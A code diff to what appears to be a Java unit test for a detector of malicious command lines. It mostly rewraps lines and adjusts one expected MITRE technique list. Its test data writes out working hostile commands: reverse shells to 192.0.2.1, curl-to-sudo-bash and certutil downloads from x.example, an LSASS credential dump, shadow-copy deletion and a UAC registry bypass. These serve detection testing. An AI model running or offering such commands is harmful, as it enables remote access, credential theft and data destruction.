@@ -40,14 +40,16 @@ class BuiltInRulesTest {
                 "win-certutil-fetch ¦ cmd /c \"%WINDIR%\\system32\\certutil.exe /urlcache /f http://x.example/a\"",
                 "win-lsass-dump ¦ rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
                 "win-recovery-off ¦ cmd.exe /c vssadmin.exe delete shadows /all /quiet",
-                "win-encoded-words ¦ powershell -e KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwB4ACcAKQA=",
+                "win-encoded-words ¦ powershell -e"
+                    + " KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwB4ACcAKQA=",
                 "win-cmd-obfuscated ¦ cmd /c p^o^w^e^r^s^h^e^l^l -nop",
                 "win-system-name ¦ C:\\Users\\Public\\svchost.exe -k netsvcs",
                 "win-uac-registry ¦ reg add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /d cmd.exe /f",
                 "win-stream ¦ wscript C:\\Users\\x\\a.txt:evil.vbs",
                 "lnx-reverse-shell-dev ¦ bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/4444 <&1'",
                 "lnx-reverse-shell-nc ¦ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
-                "lnx-reverse-shell-code ¦ python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
+                "lnx-reverse-shell-code ¦ python3 -c 'import"
+                    + " socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
                 "lnx-fetch-run ¦ curl -s http://x.example/i.sh | sudo bash",
                 "lnx-decode-run ¦ echo aWQ= | base64 -d | sh",
                 "lnx-obfuscated ¦ cat${IFS}/etc/passwd",
@@ -74,7 +76,8 @@ class BuiltInRulesTest {
             value = {
                 "C:\\Windows\\System32\\svchost.exe ¦ C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                 "C:\\Windows\\System32\\certutil.exe ¦ certutil -hashfile setup.exe SHA256",
-                "C:\\Program Files\\Google\\Chrome\\chrome.exe ¦ \"C:\\Program Files\\Google\\Chrome\\chrome.exe\" --type=renderer --lang=en",
+                "C:\\Program Files\\Google\\Chrome\\chrome.exe ¦ \"C:\\Program Files\\Google\\Chrome\\chrome.exe\""
+                        + " --type=renderer --lang=en",
                 "C:\\Windows\\System32\\rundll32.exe ¦ rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                 "C:\\Windows\\explorer.exe ¦ C:\\Windows\\explorer.exe",
                 "C:\\Windows\\System32\\schtasks.exe ¦ schtasks /query /fo list",
@@ -120,6 +123,6 @@ class BuiltInRulesTest {
         assertEquals(1, lines.findings().size());
         assertEquals("lnx-miner", lines.findings().get(0).rule());
         assertEquals(Severity.CRITICAL, lines.findings().get(0).severity());
-        assertTrue(lines.findings().get(0).techniques().containsAll(List.of("T1496", "T1059.004", "T1070.003")));
+        assertTrue(lines.findings().get(0).techniques().containsAll(List.of("T1496", "T1070.003")));
     }
 }
